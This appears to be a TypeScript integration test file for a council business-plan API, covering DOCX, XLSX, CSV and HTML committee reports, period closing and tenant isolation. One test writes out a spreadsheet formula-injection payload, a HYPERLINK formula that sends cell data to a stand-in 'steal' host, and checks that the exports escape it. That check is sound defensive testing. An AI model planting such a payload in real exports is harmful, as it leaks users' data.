import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { dueOn, isOpen, STATUS_LABELS, type Status, type Timescale } from '@peopleplan/core';
import { SEEDS_DIR } from '@peopleplan/devstack';
import { createLogger } from '@peopleplan/observability';
import { parse as parseCsv } from 'csv-parse/sync';
import ExcelJS from 'exceljs';
import mammoth from 'mammoth';
import { type HTMLElement, parse as parseHtml } from 'node-html-parser';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createApp } from '../../functions/api/src/app.js';
import { routeModules } from '../../functions/api/src/routes/index.js';
import { createTestApi, type TestApi } from '../support/api.js';

const SEEDS = { kent: '003_864b78674d56bd2d.txt', eastHerts: '001_25f8ced919f1fae7.txt' };
const K = '/api/v1/councils/kent';
const H = '/api/v1/councils/harrow';
const DOCX = 'application/vnd.openxmlformats-officedocument.wordprocessingml.document';

interface Item {
  id: string;
  ref: string;
  title: string;
  status: Status;
  version: number;
  due?: { due?: string; kind?: Timescale['kind']; recurrence?: Timescale['recurrence'] };
  rag: { rag: string };
}

const cells = (row: HTMLElement) => row.querySelectorAll('th, td').map((c) => c.text.trim());
/** The first table after a top-level heading or caption paragraph whose text starts with `text`. */
function tableAfter(root: HTMLElement, text: string): HTMLElement {
  const start = root.children.find((h) => /^(H1|H2|P)$/.test(h.tagName) && h.text.trim().startsWith(text));
  if (!start) throw new Error(`nothing headed ${text}`);
  let el = start.nextElementSibling;
  while (el && el.tagName !== 'TABLE') el = el.nextElementSibling;
  if (!el) throw new Error(`no table after ${text}`);
  return el;
}
const bodyRows = (table: HTMLElement) => table.querySelectorAll('tbody tr').map(cells);

async function readDocx(buffer: Buffer) {
  return {
    html: parseHtml((await mammoth.convertToHtml({ buffer })).value),
    text: (await mammoth.extractRawText({ buffer })).value,
  };
}

describe('committee reports through the API', () => {
  let api: TestApi;
  let today = '2014-03-31';

  /** GET a report as raw bytes (the harness reads bodies as text, which would mangle DOCX/XLSX). */
  const report = async (base: string, planId: string, query: string, as: string) => {
    const res = await api.app.request(`${base}/plans/${planId}/reports?${query}`, {
      headers: { authorization: `Bearer ${await api.token(as)}` },
    });
    return { status: res.status, headers: res.headers, bytes: Buffer.from(await res.arrayBuffer()) };
  };
  const importSeed = async (base: string, council: string, file: string) => {
    const text = readFileSync(join(fileURLToPath(SEEDS_DIR), file), 'utf8');
    const as = `editor@${council}.test`;
    const preview = await api.call('POST', `${base}/imports`, { as, body: { text, filename: file } });
    expect(preview.status, JSON.stringify(preview.body)).toBe(201);
    const commit = await api.call('POST', `${base}/imports/${preview.body.id}/commit`, { as, body: {} });
    expect(commit.status).toBe(200);
    return commit.body.planId as string;
  };
  const contentsOf = async (base: string, planId: string, as: string) =>
    (await api.call('GET', `${base}/plans/${planId}/contents`, { as })).body as {
      plan: { title: string };
      themes: { id: string; ref: string; title: string }[];
      actions: Item[];
      milestones: Item[];
    };

  beforeAll(async () => {
    api = await createTestApi({
      today: () => today,
    });
  });
  afterAll(() => api.drop());

  describe('Kent business plan (seed 003): year-end 2013-14', () => {
    let planId: string;
    let contents: Awaited<ReturnType<typeof contentsOf>>;
    const asOf = '2014-03-31';

    beforeAll(async () => {
      today = asOf;
      planId = await importSeed(K, 'kent', SEEDS.kent);
      contents = await contentsOf(K, planId, 'viewer@kent.test');
    });

    it('writes a DOCX committee paper with real headings, the exceptions table and the counts', async () => {
      const res = await report(K, planId, 'period=year-end:2013-14&format=docx', 'viewer@kent.test');
      expect(res.status).toBe(200);
      expect(res.headers.get('content-type')).toBe(DOCX);
      expect(res.headers.get('content-disposition')).toMatch(
        /^attachment; filename="[a-z0-9-]+-year-end-2013-14\.docx"$/,
      );
      const { html, text } = await readDocx(res.bytes);

      expect(html.querySelectorAll('h1').map((h) => h.text)).toEqual(
        expect.arrayContaining(['Summary', 'Exceptions', 'Progress by priority', 'Risks']),
      );
      const h2 = html.querySelectorAll('h2').map((h) => h.text);
      expect(h2).toHaveLength(contents.themes.length);
      contents.themes.forEach((t, i) => {
        expect(h2[i]).toContain(t.title);
      });
      expect(text).toContain(`${contents.plan.title}: progress report, Year-end 2013-14`);
      expect(text).toContain('Reporting period: Year-end 2013-14, 1 Apr 2013 to 31 Mar 2014');

      // Counts, worked out independently from the plan's contents.
      expect(text).toContain(
        `${contents.actions.length} actions and ${contents.milestones.length} milestones.`,
      );
      const overdue = [...contents.actions, ...contents.milestones].filter(
        // A repeating deadline is due on its next occurrence, never overdue (core occurrence.ts).
        (x) => isOpen(x.status) && x.due?.due && x.due.kind !== 'recurring' && x.due.due < asOf,
      );
      expect(overdue.length).toBeGreaterThan(0);
      // The headings can overlap (overdue and not updated): the sentence says how many are counted twice.
      expect(text).toMatch(
        new RegExp(
          `exceptions?(, \\d+ of them under more than one heading)?: \\d+ off track, ${overdue.length} overdue`,
        ),
      );
      const byStatus = new Map<string, number>();
      for (const a of contents.actions)
        byStatus.set(STATUS_LABELS[a.status], (byStatus.get(STATUS_LABELS[a.status]) ?? 0) + 1);
      expect(bodyRows(tableAfter(html, 'Actions by status'))).toEqual(
        expect.arrayContaining([...byStatus].map(([label, n]) => [label, String(n)])),
      );
      expect(bodyRows(tableAfter(html, 'Actions by status'))).toHaveLength(byStatus.size);

      // Exceptions: nothing has been reported on, so every open action is there (stale), plus overdue items.
      const exceptions = bodyRows(tableAfter(html, 'Exceptions'));
      expect(text).toContain(`Exceptions: ${exceptions.length} items`);
      const openActions = contents.actions.filter((a) => isOpen(a.status));
      const exceptionRefs = exceptions.map((r) => r[0]);
      for (const a of openActions) expect(exceptionRefs).toContain(a.ref);
      for (const a of openActions.filter((x) => x.due?.due && x.due.due < asOf)) {
        const row = exceptions.find((r) => r[0] === a.ref)!;
        expect(row[3]).toMatch(/Overdue: due .* (days?|weeks?|months?|years?) late/);
      }
      expect(exceptions.every((r) => r[3]!.length > 0 && r[5]!.length > 0)).toBe(true);
      // No period was closed before this one: every action is new.
      const travel = tableAfter(html, 'Direction of travel since');
      expect(bodyRows(travel)[0]).toEqual(['0', '0', '0', String(contents.actions.length)]);
    });

    it('exports XLSX that parses back to the API’s actions and milestones', async () => {
      const res = await report(K, planId, 'period=year-end:2013-14&format=xlsx', 'viewer@kent.test');
      expect(res.status).toBe(200);
      const wb = new ExcelJS.Workbook();
      await wb.xlsx.load(res.bytes as unknown as ArrayBuffer);
      const ws = wb.worksheets[0]!;
      const header = (ws.getRow(1).values as unknown[]).slice(1) as string[];
      const col = (name: string) => header.indexOf(name) + 1;
      const iso = (v: unknown) => (v instanceof Date ? v.toISOString().slice(0, 10) : '');
      const fromSheet: string[][] = [];
      ws.eachRow((row, n) => {
        if (n === 1) return;
        const text = (c: number) => String(row.getCell(c).value ?? '');
        fromSheet.push([
          text(col('Type')),
          text(col('Ref')),
          text(col('Title')),
          text(col('Status')),
          text(col('RAG')),
          iso(row.getCell(col('Due date')).value),
        ]);
      });
      const word = (rag: string) => rag[0]!.toUpperCase() + rag.slice(1);
      const fromApi = [
        ...contents.actions.map((a) => ['Action', a, a.rag] as const),
        ...contents.milestones.map((m) => ['Milestone', m, m.rag] as const),
      ].map(([type, x, rag]) => [
        type,
        x.ref,
        x.title,
        STATUS_LABELS[x.status],
        word(rag.rag),
        // As at the period's end: a repeating deadline's occurrence then.
        dueOn(x.due, asOf) ?? '',
      ]);
      const sort = (rows: string[][]) => rows.map((r) => JSON.stringify(r)).sort();
      expect(fromSheet).toHaveLength(contents.actions.length + contents.milestones.length);
      expect(sort(fromSheet)).toEqual(sort(fromApi));
    });

    it('escapes a title that a spreadsheet would run as a formula, in CSV and XLSX', async () => {
      const evil = '=HYPERLINK("http://example.invalid/steal?d="&A1,"Click me")';
      const target = contents.actions.find((a) => a.ref === '2.1')!;
      const patched = await api.call('PATCH', `/api/v1/councils/kent/actions/${target.id}`, {
        as: 'editor@kent.test',
        body: { version: target.version, title: evil },
      });
      expect(patched.status, JSON.stringify(patched.body)).toBe(200);

      const csv = await report(K, planId, 'period=year-end:2013-14&format=csv', 'viewer@kent.test');
      expect(csv.headers.get('content-type')).toBe('text/csv; charset=utf-8');
      const rows: string[][] = parseCsv(csv.bytes.toString('utf8'), { bom: true });
      const titleCol = rows[0]!.indexOf('Title');
      const cell = rows.find((r) => r[2] === '2.1' && r[3] === 'Action')![titleCol];
      expect(cell).toBe(`'${evil}`);
      expect(rows.slice(1).every((r) => !/^[=+\-@]/.test(r[titleCol]!))).toBe(true);

      const xlsx = await report(K, planId, 'period=year-end:2013-14&format=xlsx', 'viewer@kent.test');
      const wb = new ExcelJS.Workbook();
      await wb.xlsx.load(xlsx.bytes as unknown as ArrayBuffer);
      const ws = wb.worksheets[0]!;
      let found = false;
      ws.eachRow((row) => {
        row.eachCell((c) => {
          expect(c.type).not.toBe(ExcelJS.ValueType.Formula);
          if (c.value === evil) {
            found = true;
            expect(c.type).toBe(ExcelJS.ValueType.String);
          }
        });
      });
      expect(found).toBe(true);
    });

    it('serves HTML inline under a strict CSP, and adds a forecast column when asked', async () => {
      const res = await report(K, planId, 'period=year-end:2013-14&format=html', 'viewer@kent.test');
      expect(res.status).toBe(200);
      expect(res.headers.get('content-type')).toBe('text/html; charset=utf-8');
      expect(res.headers.get('content-security-policy')).toBe(
        "default-src 'none'; style-src 'unsafe-inline'",
      );
      expect(res.headers.get('content-disposition')).toMatch(/^inline; filename=".+\.html"$/);
      const html = parseHtml(res.bytes.toString('utf8'));
      expect(html.querySelector('h1')!.text).toContain('Year-end 2013-14');
      expect(html.querySelectorAll('script')).toHaveLength(0);

      const withForecast = await report(
        K,
        planId,
        'period=year-end:2013-14&format=docx&forecast=true',
        'viewer@kent.test',
      );
      const { html: doc } = await readDocx(withForecast.bytes);
      const actionTables = doc
        .querySelectorAll('table')
        .map((t) => cells(t.querySelector('thead tr')!))
        .filter((h) => h.includes('Since last report'));
      expect(actionTables.length).toBeGreaterThan(0);
      expect(actionTables.every((h) => h.at(-1) === 'Year-end forecast')).toBe(true);
    });

    it('answers 400 with details for a bad period or format', async () => {
      const badPeriod = await api.call('GET', `${K}/plans/${planId}/reports?period=autumn&format=docx`, {
        as: 'viewer@kent.test',
      });
      expect(badPeriod.status).toBe(400);
      expect(badPeriod.body.error.details[0].path).toBe('period');
      const badFormat = await api.call('GET', `${K}/plans/${planId}/reports?period=mid-year&format=pdf`, {
        as: 'viewer@kent.test',
      });
      expect(badFormat.status).toBe(400);
      expect(badFormat.body.error.details.map((d: { path: string }) => d.path)).toContain('format');
    });

    it('answers 404 to another council’s users and 401 without a token', async () => {
      const harrowUser = await report(K, planId, 'period=year-end:2013-14&format=docx', 'viewer@harrow.test');
      expect(harrowUser.status).toBe(404);
      const wrongPath = await report(H, planId, 'period=year-end:2013-14&format=csv', 'viewer@harrow.test');
      expect(wrongPath.status).toBe(404);
      const anon = await api.app.request(`${K}/plans/${planId}/reports?period=year-end:2013-14&format=csv`);
      expect(anon.status).toBe(401);
    });
  });

  describe('East Herts peer review (seed 001, in harrow): close a period, then mid-year with direction of travel', () => {
    let planId: string;
    let byRef: Map<string, Item>;
    const update = async (ref: string, status: Status, period: string) => {
      const res = await api.call('POST', `${H}/actions/${byRef.get(ref)!.id}/updates`, {
        as: 'editor@harrow.test',
        body: { narrative: `${period}: ${ref} is ${status}`, status, period },
      });
      expect(res.status, JSON.stringify(res.body)).toBe(201);
    };
    const close = (key: string, as = 'editor@harrow.test') =>
      api.call('POST', `${H}/plans/${planId}/periods/${key}/close`, { as, body: {} });

    beforeAll(async () => {
      today = '2007-10-15';
      planId = await importSeed(H, 'harrow', SEEDS.eastHerts);
      const contents = await contentsOf(H, planId, 'viewer@harrow.test');
      byRef = new Map(contents.actions.map((a) => [a.ref, a]));
    });

    it('closes year-end 2006-07 once, for editors only, freezing status and RAG at the period end', async () => {
      await update('5', 'on-track', 'year-end 2006-07');
      await update('12', 'on-track', 'year-end 2006-07');
      await update('15', 'at-risk', 'year-end 2006-07');

      expect((await close('year-end:2006-07', 'viewer@harrow.test')).status).toBe(403);
      const first = await close('year-end:2006-07');
      expect(first.status, JSON.stringify(first.body)).toBe(201);
      expect(first.body).toMatchObject({
        key: 'year-end-2006-07',
        label: 'Year-end 2006-07',
        asOf: '2007-03-31',
        actionCount: byRef.size,
        created: true,
      });
      expect(first.body.byStatus['on-track']).toBeGreaterThanOrEqual(2);
      // Closing again (a retry, or by its key) changes nothing.
      const again = await close('year-end-2006-07');
      expect(again.status).toBe(200);
      expect(again.body).toMatchObject({ created: false, closedAt: first.body.closedAt });

      const snap = await api.call('GET', `${H}/plans/${planId}/periods/year-end-2006-07`, {
        as: 'viewer@harrow.test',
      });
      expect(snap.body.entries[byRef.get('5')!.id]).toEqual({ status: 'on-track', rag: 'green' });
      expect(snap.body.entries[byRef.get('15')!.id]).toEqual({ status: 'at-risk', rag: 'amber' });
      // Due 30 June 2007 and not started: grey at 31 March 2007 (more than 30 days to go).
      expect(snap.body.entries[byRef.get('16.5')!.id]).toEqual({ status: 'not-started', rag: 'grey' });

      // The dashboard now shows direction of travel since that period, counting every action once.
      const dash = await api.call('GET', `${H}/dashboard`, { as: 'viewer@harrow.test' });
      const card = dash.body.plans.find((p: { planId: string }) => p.planId === planId);
      expect(card.travel.since).toBe('Year-end 2006-07');
      const counts = card.travel.counts;
      expect(Object.values(counts as Record<string, number>).reduce((a, n) => a + n, 0)).toBe(card.total);
      expect(counts.new).toBe(0);
    });

    it('refuses periods that have not started or do not parse', async () => {
      const future = await close('year-end:2008-09');
      expect(future.status).toBe(422);
      const bad = await close('someday');
      expect(bad.status).toBe(400);
      expect(bad.body.error.details[0].path).toBe('periodKey');
    });

    it('writes the mid-year 2007-08 report with direction of travel since year-end 2006-07', async () => {
      await update('5', 'off-track', 'mid-year 2007-08');
      await update('12', 'completed', 'mid-year 2007-08');
      await update('15', 'at-risk', 'mid-year 2007-08');

      const res = await report(H, planId, 'period=mid-year:2007-08&format=docx', 'viewer@harrow.test');
      expect(res.status).toBe(200);
      expect(res.headers.get('x-report-compared-with')).toBe('year-end-2006-07');
      const { html, text } = await readDocx(res.bytes);
      expect(text).toContain('progress report, Mid-year 2007-08');
      expect(html.querySelectorAll('h1').map((h) => h.text)).toEqual([
        'Summary',
        'Exceptions',
        'Progress by heading',
      ]);

      const actionRows = html
        .querySelectorAll('table')
        .filter((t) => cells(t.querySelector('thead tr')!).includes('Since last report'))
        .flatMap(bodyRows);
      const row = (ref: string) => actionRows.find((r) => r[0] === ref)!;
      expect(row('5')[4]).toBe('Off track (Red)');
      expect(row('5')[5]).toBe('Worse (was green)');
      expect(row('12')[5]).toBe('Improved (was green)');
      expect(row('15')[5]).toBe('No change (was amber)');
      // Not started and due 30 June 2007: overdue by the end of September.
      expect(row('16.5')[5]).toBe('Worse (was grey)');
      expect(row('5')[6]).toContain('mid-year 2007-08: 5 is off-track');

      const travelTable = tableAfter(html, 'Direction of travel since Year-end 2006-07');
      const heads = cells(travelTable.querySelector('tr')!);
      const figures = bodyRows(travelTable)[0]!.map(Number);
      const travel = new Map(heads.map((h, i) => [h, figures[i]!]));
      expect(travel.get('Improved')).toBeGreaterThanOrEqual(1);
      expect(travel.get('Worse')).toBeGreaterThanOrEqual(2);
      expect(travel.get('New this period')).toBe(0);
      expect(figures.reduce((a, n) => a + n, 0)).toBe(byRef.size);

      const exceptions = bodyRows(tableAfter(html, 'Exceptions'));
      const five = exceptions.find((r) => r[0] === '5')!;
      expect(five[3]).toContain('Off track');
      expect(five[6]).toContain('5 is off-track');
      expect(exceptions.find((r) => r[0] === '12')).toBeUndefined();
    });

    it('keeps a status timeline per action across closed periods', async () => {
      expect((await close('mid-year:2007-08')).status).toBe(201);
      const periods = await api.call('GET', `${H}/plans/${planId}/periods`, { as: 'viewer@harrow.test' });
      expect(periods.body.items.map((p: { key: string }) => p.key)).toEqual([
        'year-end-2006-07',
        'mid-year-2007-08',
      ]);
      const timeline = await api.call('GET', `${H}/actions/${byRef.get('5')!.id}/timeline`, {
        as: 'viewer@harrow.test',
      });
      expect(timeline.status).toBe(200);
      expect(timeline.body.items).toMatchObject([
        { periodKey: 'year-end-2006-07', status: 'on-track', rag: 'green', travel: 'new' },
        { periodKey: 'mid-year-2007-08', status: 'off-track', rag: 'red', travel: 'worse' },
      ]);
      expect(timeline.body.current).toMatchObject({ status: 'off-track', rag: 'red' });

      // The year-end report compares with mid-year by default, or with any closed period named.
      const q = 'period=year-end:2007-08&format=csv';
      const byDefault = await report(H, planId, q, 'viewer@harrow.test');
      expect(byDefault.headers.get('x-report-compared-with')).toBe('mid-year-2007-08');
      const named = await report(H, planId, `${q}&compareWith=year-end:2006-07`, 'viewer@harrow.test');
      expect(named.headers.get('x-report-compared-with')).toBe('year-end-2006-07');
      const notClosed = await api.call('GET', `${H}/plans/${planId}/reports?${q}&compareWith=2007-05`, {
        as: 'viewer@harrow.test',
      });
      expect(notClosed.status).toBe(400);
      expect(notClosed.body.error.details[0].path).toBe('compareWith');
      const kentAsks = await api.call('GET', `${H}/actions/${byRef.get('5')!.id}/timeline`, {
        as: 'viewer@kent.test',
      });
      expect(kentAsks.status).toBe(404);
    });
  });
});

describe('OpenAPI', () => {
  it('documents every report, period, timeline and calendar route', async () => {
    const app = createApp(
      {
        config: {
          TABLE_NAME: 'unused',
          MAX_BODY_BYTES: 1024,
          WEB_BASE_URL: 'http://127.0.0.1:9',
          STAGE: 'test',
        },
        logger: createLogger('test'),
        verifier: { verify: async () => Promise.reject(new Error('no tokens here')) } as never,
        docFor: async () => Promise.reject(new Error('no database here')),
        partnershipDirectory: {} as never,
        directory: {} as never,
        identity: {} as never,
      },
      await routeModules('documents'),
    );
    const res = await app.request('/api/v1/openapi.json');
    expect(res.status).toBe(200);
    const doc = (await res.json()) as { paths: Record<string, Record<string, { security?: unknown[] }>> };
    expect(Object.keys(doc.paths)).toEqual(
      expect.arrayContaining([
        '/api/v1/councils/{c}/plans/{planId}/reports',
        '/api/v1/councils/{c}/plans/{planId}/periods',
        '/api/v1/councils/{c}/plans/{planId}/periods/{periodKey}',
        '/api/v1/councils/{c}/plans/{planId}/periods/{periodKey}/close',
        '/api/v1/councils/{c}/actions/{actionId}/timeline',
        '/api/v1/councils/{c}/people/{personId}/calendar-feed',
        '/api/v1/councils/{c}/plans/{planId}/calendar-feed',
        '/calendar/{councilId}/{file}',
      ]),
    );
    expect(Object.keys(doc.paths['/api/v1/councils/{c}/people/{personId}/calendar-feed']!)).toEqual(
      expect.arrayContaining(['post', 'get', 'delete']),
    );
    // The feed fetch is the one route without a bearer token.
    expect(doc.paths['/calendar/{councilId}/{file}']!.get!.security).toEqual([]);
  });
});
